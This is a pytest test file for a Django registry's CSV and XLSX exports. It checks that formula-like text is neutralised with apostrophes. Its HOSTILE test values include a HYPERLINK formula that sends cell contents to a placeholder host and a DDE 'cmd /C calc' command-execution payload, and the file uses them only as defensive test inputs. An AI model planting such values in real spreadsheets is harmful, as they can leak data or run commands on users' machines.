"""Exported cells never become formulas, whichever separator the spreadsheet splits a CSV line on.

Excel in an Indonesian locale splits on ";" (the list separator) even in a comma-separated file, so a
text such as `Toko;=HYPERLINK(...)` would start a cell of its own with `=`. Every place a cell may start
inside a field gets an apostrophe; ordinary values stay as they are.
"""

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from assistance.models import Delivery, Programme
from core.spreadsheets import csv_cell
from tests.factories import BUMIJAYA, ProducerFactory, ProductFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
HOSTILE = [
    'Toko Sari;=HYPERLINK("http://x/?"&A1,"klik")',
    "Bu Sari; @SUM(A1)",
    "Jl. Raya,-2+3+cmd|' /C calc'!A0",
    'Kripik;"=1+1"',
    "Gerabah\t=1+1",
    "Kemasan\n+SUM(1,2)",
    "Kopi;\r=1+1",
]


def dangerous_fields(text: str, delimiter: str) -> list[str]:
    """The fields a spreadsheet splitting `text` on `delimiter` would read as a formula."""
    found = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for field in row:
            for line in field.splitlines() or [""]:
                start = line.lstrip(' "')
                if start.startswith(TRIGGERS) and not NUMBER.fullmatch(start) and start.strip() not in "+-":
                    found.append(line)
    return found


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_formula_after_an_embedded_separator_stays_text_whichever_separator_splits_the_line(
    value, delimiter
):
    line = io.StringIO()
    csv.writer(line).writerow(["awal", csv_cell(value), "akhir"])

    assert dangerous_fields(line.getvalue(), delimiter) == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Toko;=HYPERLINK(1)", "Toko;'=HYPERLINK(1)"),
        ("Toko; =1+1", "Toko;' =1+1"),
        ("Toko,@SUM(A1)", "Toko,'@SUM(A1)"),
        ('Toko;"=1"', 'Toko;\'"=1"'),
        ("=1+1", "'=1+1"),
        ("Rp 5.000,- per bungkus", "Rp 5.000,'- per bungkus"),  # Excel would show #NAME? otherwise
    ],
)
def test_each_place_a_formula_could_start_gets_an_apostrophe(value, written):
    assert csv_cell(value) == written


@pytest.mark.parametrize(
    "value",
    [
        "081234567890",
        "0812-3456-7890",
        "Rp 15.000,-",
        "-",
        "Keripik pisang; rasa manis, asin",
        "Jl. Raya Serang km 5; RT 01/RW 02",
        "2026-04-01",
        "Kopi; - ",
    ],
)
def test_ordinary_values_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_neutralising_twice_adds_nothing():
    for value in HOSTILE:
        assert csv_cell(csv_cell(value)) == csv_cell(value)


@pytest.fixture
def hostile_registry(dinas):
    producer = ProducerFactory(business_name=HOSTILE[0], owner_name=HOSTILE[1], address=HOSTILE[2])
    product = ProductFactory(name=HOSTILE[3], story=HOSTILE[4])
    product.producers.add(producer)
    programme = Programme.objects.create(
        name=HOSTILE[5],
        kind="kemasan",
        fiscal_year=2026,
        budget=50_000_000,
        funding_source="apbd_kab",
        agency="Disperindag",
        status="running",
    )
    Delivery.objects.create(
        programme=programme,
        village_id=BUMIJAYA,
        delivered_on="2026-04-01",
        value=1_000_000,
        description=HOSTILE[6],
        officer=dinas,
        product=product,
    )


@pytest.mark.parametrize("what", ["produsen", "produk", "bantuan", "registri"])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_csv_export_holds_a_formula_when_excel_splits_it_on_either_separator(
    what, delimiter, hostile_registry, dinas_client
):
    response = dinas_client.get(reverse("officials:export", args=[what, "csv"]))
    assert response.status_code == 200
    text = response.getvalue().decode("utf-8-sig")

    assert dangerous_fields(text, delimiter) == []


def test_a_hostile_text_comes_back_whole_from_the_csv_apart_from_its_apostrophes(
    hostile_registry, dinas_client
):
    response = dinas_client.get(reverse("officials:export", args=["produsen", "csv"]))
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    names = [row[3] for row in rows[1:]]
    assert 'Toko Sari;\'=HYPERLINK("http://x/?"&A1,"klik")' in names


def test_an_xlsx_export_writes_formula_like_text_as_text_that_stays_text_when_edited(
    hostile_registry, dinas_client
):
    response = dinas_client.get(reverse("officials:export", args=["produsen", "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    headers = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[headers.index("Nama usaha")].value == HOSTILE[0])

    assert all(cell.data_type != "f" for cell in row)
    whatsapp = row[headers.index("WhatsApp")]
    assert whatsapp.value.startswith("+62")
    assert (whatsapp.data_type, whatsapp.quotePrefix) == ("s", True)  # no visible apostrophe in Excel
    address = row[headers.index("Alamat")]
    assert (address.value, address.data_type) == (HOSTILE[2], "s")
